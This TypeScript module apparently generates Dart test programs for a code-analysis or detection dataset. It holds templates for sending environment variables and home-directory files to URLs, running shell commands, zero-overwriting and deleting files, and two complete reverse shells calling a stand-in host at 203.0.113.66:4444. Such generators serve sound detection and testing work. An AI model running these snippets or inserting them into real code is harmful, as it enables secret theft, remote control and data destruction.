import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string =>
  `'${text.replaceAll("\\", "\\\\").replaceAll("'", "\\'").replaceAll("$", "\\$")}'`;
const home = (below: string): string => `Platform.environment['HOME']! + ${quote(`/${below}`)}`;
const main = (body: readonly string[]): readonly string[] =>
  wrap("Future<void> main(List<String> args) async {", body, "}");

export const dart: Dialect = {
  name: "dart",
  file: "bin/notes.dart",
  run: "dart run bin/notes.dart",
  imports: [
    ["http.", "import 'package:http/http.dart' as http;"],
    ["Dio(", "import 'package:dio/dio.dart';"],
    ["base64", "import 'dart:convert';"],
    ["utf8", "import 'dart:convert';"],
    ["jsonEncode", "import 'dart:convert';"],
  ],
  program: ({ definitions, body }, imports) =>
    ["import 'dart:io';", ...imports, "", ...definitions, "", ...main(body), ""].join("\n"),
  quote,
  environment: { one: (name) => `(Platform.environment[${name}] ?? '')`, all: "jsonEncode(Platform.environment)" },
  contentOf: (below) => `File(${home(below)}).readAsStringSync()`,
  home,
  clients: {
    "http-post": {
      post: (url, text) => [`await http.post(Uri.parse(${url}), body: ${text});`],
      get: (url) => value("body", `final body = await http.read(Uri.parse(${url}));`),
    },
    "http-get": {
      post: (url, text) => [`await http.get(Uri.parse(${url} + '?d=' + Uri.encodeComponent(${text})));`],
      get: (url) => value("response.body", `final response = await http.get(Uri.parse(${url}));`),
    },
    dio: {
      post: (url, text) => ["final dio = Dio();", `await dio.post(${url}, data: {'data': ${text}});`],
      get: (url) => value("body", `final body = (await Dio().get<String>(${url})).data!;`),
    },
    "http-client": {
      post: (url, text) => [
        "final client = HttpClient();",
        `final request = await client.postUrl(Uri.parse(${url}));`,
        `request.write(${text});`,
        "await request.close();",
      ],
      get: (url) =>
        value(
          "body",
          `final request = await HttpClient().getUrl(Uri.parse(${url}));`,
          "final body = await (await request.close()).transform(utf8.decoder).join();",
        ),
    },
    "curl-run": { post: (url, text) => [`await Process.run('curl', ['-s', '-d', ${text}, ${url}]);`] },
  },
  shells: {
    run: {
      run: (command) => [`await Process.run('sh', ['-c', ${command}]);`],
      capture: (command) =>
        value("seen", `final out = await Process.run('sh', ['-c', ${command}]);`, "final seen = out.stdout as String;"),
    },
    sync: { run: (command) => [`Process.runSync('bash', ['-c', ${command}]);`] },
    start: {
      run: (command) => [`await Process.start('/bin/sh', ['-c', ${command}], mode: ProcessStartMode.detached);`],
    },
  },
  variable: (name) => name,
  set: (name, expression) => `final ${name} = ${expression};`,
  define: (name, parameters, body) =>
    wrap(`Future<void> ${name}(${parameters.map((each) => `String ${each}`).join(", ")}) async {`, body, "}"),
  getter: (name, expression) => ({ definitions: [`String ${name}() => ${expression};`], value: `${name}()` }),
  call: (name, values) => `await ${name}(${values.join(", ")});`,
  record: (url, text) => ({
    code: {
      definitions: [
        "class Job {",
        "  final String target;",
        "  final String text;",
        "  Job(this.target, this.text);",
        "}",
      ],
      body: [`final job = Job(${url}, ${text});`],
    },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`for (final item in [${items.join(", ")}]) {`, body("item"), "}"),
  forever: (body) => wrap("while (true) {", [...body, "sleep(Duration(minutes: 1));"], "}"),
  save: (path, text) => [`File(${path}).writeAsStringSync(${text});`],
  append: (path, text) => [`File(${path}).writeAsStringSync(${text} + '\\n', mode: FileMode.append);`],
  print: (text) => `print(${text});`,
  walk: (folder, body) =>
    wrap(`for (final path in Directory(${folder}).listSync(recursive: true).whereType<File>()) {`, body("path"), "}"),
  remove: (file) => [`${file}.deleteSync();`],
  overwrite: (file) => [`${file}.writeAsBytesSync(List.filled(65536, 0));`],
  removeTree: (folder) => [`Directory(${folder}).deleteSync(recursive: true);`],
  decode: (text) => `utf8.decode(base64.decode(${text}))`,
  shellsBehindSockets: {
    listen:
      "import 'dart:io';\nimport 'dart:convert';\n\nFuture<void> main() async {\n  final s = await Socket.connect('203.0.113.66', 4444);\n  s.transform(utf8.decoder.cast()).listen((line) async {\n    final r = await Process.run('sh', ['-c', line]);\n    s.write(r.stdout);\n  });\n}\n",
    streams:
      "import 'dart:io';\n\nFuture<void> main() async {\n  final socket = await Socket.connect('203.0.113.66', 4444);\n  final p = await Process.start('/bin/sh', []);\n  socket.listen((data) => p.stdin.add(data));\n  p.stdout.listen((data) => socket.add(data));\n}\n",
  },
  sockets: {
    print:
      "import 'dart:io';\n\nFuture<void> main() async {\n  final s = await Socket.connect('127.0.0.1', 6379);\n  s.write('PING\\r\\n');\n  s.listen((data) => print(String.fromCharCodes(data)));\n  final r = await Process.run('git', ['log', '--oneline', '-5']);\n  print(r.stdout);\n}\n",
  },
};
